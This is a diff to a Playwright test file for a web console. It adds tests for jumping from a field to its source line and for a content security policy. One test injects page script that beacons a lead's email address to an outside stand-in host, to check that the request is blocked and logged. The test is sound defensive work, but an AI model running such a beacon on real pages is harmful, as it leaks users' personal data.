@@ -8,6 +8,7 @@ import pytest
 from playwright.sync_api import TimeoutError as PlaywrightTimeout
 
 from bridge.demo.stage import CONSOLE_USER
+from tests.waiting import wait_until
 
 if TYPE_CHECKING:
     from collections.abc import Callable
@@ -72,6 +73,28 @@ def test_a_problem_leads_to_its_line(open_tab: Opened) -> None:
         "() => { const e = document.activeElement; return e.value.slice(e.selectionStart, e.selectionEnd) }"
     )
     assert selected == lines[number]
+    assert tab.page.inner_text(".gutter .marked-error") == str(number + 1)
+
+
+def test_a_click_on_a_field_leads_to_its_line(open_tab: Opened) -> None:
+    tab = open_tab()
+    tab.go("/trying/tally")
+    tab.page.click("td:has-text('ada@example.com') >> nth=0")
+    selected = tab.page.evaluate(
+        "() => { const e = document.activeElement; return e.value.slice(e.selectionStart, e.selectionEnd) }"
+    )
+    assert "Lead Email:" in selected
+
+
+def test_what_breaks_the_policy_is_blocked_and_logged(open_tab: Opened, demo: Stage) -> None:
+    tab = open_tab()
+    tab.go("/leads/evt_1")
+    tab.page.evaluate("() => { new Image().src = 'https://elsewhere.example.net/ada@example.com' }")
+    wait_until(lambda: "console.policy_broken" in demo.log.read_text())
+    (line,) = [line for line in demo.log.read_text().splitlines() if "console.policy_broken" in line]
+    assert '"page":"/leads/evt_1"' in line
+    assert '"blocked":"https://elsewhere.example.net"' in line
+    assert "ada@" not in line
 
 
 def _press_to(tab: Tab, url: str, *keys: str) -> None:
